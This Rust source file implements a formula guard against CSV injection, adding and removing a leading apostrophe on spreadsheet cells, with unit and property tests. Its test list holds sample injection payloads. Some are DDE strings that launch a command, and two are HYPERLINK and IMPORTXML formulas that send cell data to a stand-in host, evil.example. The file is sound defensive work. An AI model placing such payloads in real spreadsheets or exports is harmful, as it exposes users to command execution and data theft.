//! The formula guard: a text that a spreadsheet would take for a formula gets an apostrophe in front, and loses it again
//! when it is imported (OWASP, "CSV Injection"; FEATURES E26).
//!
//! It is for the text cells of CSV and TXT files, which people open in spreadsheets. Cells that Trunkline makes itself
//! (numbers as 14155550123, dates, words of a closed list) never begin like a formula and stay as they are. A number that
//! somebody else's file writes as `+1 415 555 0123` or `'+1 415 555 0123` reads the same.

use std::borrow::Cow;

/// What a spreadsheet may begin a formula with: the ASCII signs, white space that it skips before them, and the full-width
/// signs that some locales take for the ASCII ones.
const TRIGGERS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// The text as a cell that no spreadsheet evaluates; [`unguard`] gives the text back, whatever it was.
pub fn guard(text: &str) -> Cow<'_, str> {
    if is_formula(text) { Cow::Owned(["'", text].concat()) } else { Cow::Borrowed(text) }
}

/// The text of a guarded cell; a cell that was never guarded stays as it is.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(text) if is_formula(text) => text,
        _ => cell,
    }
}

/// Apostrophes in front do not count: a text that begins with one and then like a formula is guarded too, or unguarding
/// would take the apostrophe that was its own.
fn is_formula(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(TRIGGERS)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_a_spreadsheet_would_evaluate_gets_an_apostrophe_and_loses_it_again() {
        for payload in [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
            "+1 (415) 555-0123",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\u{ff1d}1+1",
            "'=1+1",
            "''@x",
            "=",
        ] {
            let cell = guard(payload);
            assert!(cell.starts_with('\''), "{payload:?}");
            assert_eq!(unguard(&cell), payload);
        }
    }

    #[test]
    fn other_texts_stay_as_they_are() {
        for text in ["", "AT&T", "14155550123", "O'Brien Telecom", "'tis", "'", "a=b", "2026-07-06T10:00:00Z", " =1"] {
            assert_eq!(guard(text), text);
            assert_eq!(unguard(text), text);
        }
    }

    proptest! {
        #[test]
        fn unguarding_gives_back_whatever_was_guarded(text in "['=+@\t\r\n-]{0,4}.{0,12}") {
            let cell = guard(&text);
            prop_assert_eq!(unguard(&cell), text.as_str());
            prop_assert!(!cell.starts_with(TRIGGERS));
        }
    }
}
